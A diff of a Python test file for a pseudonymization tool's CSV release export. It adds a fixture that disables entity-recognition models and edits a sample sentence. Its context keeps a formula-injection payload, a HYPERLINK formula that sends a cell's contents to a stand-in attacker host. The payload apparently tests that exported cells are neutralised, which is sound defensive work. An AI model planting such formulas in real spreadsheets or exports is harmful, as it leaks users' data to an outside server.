@@ -6,6 +6,8 @@ import csv
 import json
 from typing import Any
 
+import pytest
+
 from annotator.models import Document, DocumentStatus, ReleaseStatus
 from annotator.services.releases import release_build, release_create, release_data_path
 from annotator.services.spans import span_create
@@ -13,8 +15,15 @@ from pseudonymizer.formats.writers import FORMULA_STARTS, TEXT_MARK
 from tests.factories import DocumentFactory, ProjectFactory
 
 PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"Zed")'
-TEXT = "Ottoline Featherstonehaugh wrote to us on Monday."
+TEXT = "Ottoline Featherstonehaugh wrote to us again."
 NAME = "Ottoline Featherstonehaugh"
+
+
+@pytest.fixture(autouse=True)
+def _no_ner_model(settings: Any) -> None:
+    """The release's detection check runs here without the NER queue (no worker consumes it
+    in these tests): what is checked is how the CSV writes the cells."""
+    settings.CLOAK_NER_MODELS = {"en": "", "fr": "", "ar": ""}
 
 
 def test_a_typed_formula_pseudonym_is_released_as_text_with_its_offsets_right(db: Any) -> None:
